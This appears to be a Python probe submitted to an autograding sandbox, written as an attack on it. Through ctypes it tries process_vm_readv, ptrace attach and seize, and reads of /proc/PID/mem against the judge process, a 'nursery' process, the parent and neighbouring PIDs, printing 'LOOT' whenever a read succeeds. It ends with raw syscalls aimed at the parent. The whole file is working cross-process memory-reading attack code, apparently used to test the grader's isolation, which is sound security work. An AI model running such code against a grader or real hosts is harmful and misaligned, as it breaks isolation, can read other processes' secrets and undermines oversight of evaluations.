# attack: reads the memory of the judge, the nursery and a neighbour: process_vm_readv, ptrace, /proc/PID/mem
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def said(result):
    return result if result >= 0 else os.strerror(ctypes.get_errno())


into = ctypes.create_string_buffer(64)
here = id(os)  # a forked child and its parent have the same objects at the same places
for pid in {int("@PID@"), int("@JUDGE@"), int("@NURSERY@"), os.getppid(), os.getpid() - 1, os.getpid() + 1}:
    for address in (here, 0x400000, 0x7FFFF7000000):
        result = libc.process_vm_readv(pid, ctypes.byref(Vector(ctypes.addressof(into), 64)), 1, ctypes.byref(Vector(address, 64)), 1, 0)
        if result > 0:
            print("LOOT: memory of", pid)
    print(pid, said(result))
    if pid != int("@JUDGE@"):  # an attached process stops: the judge must not
        for request in (16, 0x4206):  # attach, seize
            result = libc.ptrace(request, pid, 0, 0)
            if result == 0:
                print("LOOT: traces", pid)
                libc.ptrace(17, pid, 0, 0)
        print(pid, said(result))
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(here)
            print("LOOT:", len(memory.read(64)), "bytes of", pid)
    except OSError as error:
        print(error)
if platform.machine() == "x86_64":
    print([said(libc.syscall(n, os.getppid(), 0, 0, 0, 0, 0)) for n in (310, 311, 312, 440)])
print("TRIED")
